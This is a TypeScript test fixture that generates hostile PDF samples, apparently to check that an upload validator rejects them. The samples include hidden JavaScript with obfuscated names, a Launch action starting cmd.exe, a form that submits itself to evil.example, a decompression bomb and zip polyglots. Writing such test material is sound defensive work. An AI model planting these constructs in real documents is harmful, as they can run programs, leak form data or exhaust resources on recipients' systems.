import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import type { FileFault } from '../policy.ts'
import { type Hostile, objectStream, pdf, text } from './build.ts'

const one = (what: string, bytes: Uint8Array, fault: FileFault = 'active_content'): Hostile => ({
  what,
  name: 'a.pdf',
  bytes,
  fault,
})
const script = '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'
const packed = deflateSync(text('4 0 << /S /JavaScript /JS (app.alert(1)) >>'))

export const HOSTILE_PDFS: readonly Hostile[] = [
  one('a script', pdf(script)),
  one('a script spelled by numbers', pdf(script.replace('/JavaScript', '/J#61va#53cript'))),
  one('a script in an object stream', objectStream(packed, '/Filter /FlateDecode')),
  one(
    'a script in an object stream spelled by numbers',
    Buffer.from(
      objectStream(packed, '/Filter /FlateDecode').toString('latin1').replace('/ObjStm', '/Obj#53tm'),
      'latin1',
    ),
  ),
  one(
    'an object stream packed twice',
    objectStream(text(packed.toString('hex')), '/Filter [/ASCIIHexDecode /FlateDecode]'),
  ),
  one(
    'an object stream with a predictor',
    objectStream(packed, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'),
  ),
  one(
    'an object stream that is a bomb',
    objectStream(deflateSync(Buffer.alloc(60_000_000)), '/Filter /FlateDecode'),
    'unpacks_too_large',
  ),
  one('a broken object stream', objectStream(randomBytes(300), '/Filter /FlateDecode'), 'damaged'),
  one('a program to start', pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')),
  one('a form that sends itself', pdf('4 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj')),
  one('a file inside', pdf('4 0 obj\n<< /Names << /EmbeddedFiles 5 0 R >> >>\nendobj')),
  one('an XFA form', pdf('4 0 obj\n<< /XFA 5 0 R >>\nendobj')),
  one('a player', pdf('4 0 obj\n<< /Subtype /RichMedia >>\nendobj')),
  one('a password', pdf('4 0 obj\n<< /Encrypt 6 0 R >>\nendobj'), 'encrypted'),
  one('half a PDF', pdf('').subarray(0, 40), 'damaged'),
  one('something before the PDF', pdf('', '<script>alert(1)</script>\n%PDF-1.7\n'), 'type_not_allowed'),
  one('a zip behind the PDF', Buffer.concat([pdf(''), zipSync({ a: strToU8('a') })]), 'damaged'),
  one(
    'a zip inside the PDF',
    pdf(`4 0 obj\n(${Buffer.from(zipSync({ a: strToU8('a') })).toString('latin1')})\nendobj`),
  ),
]
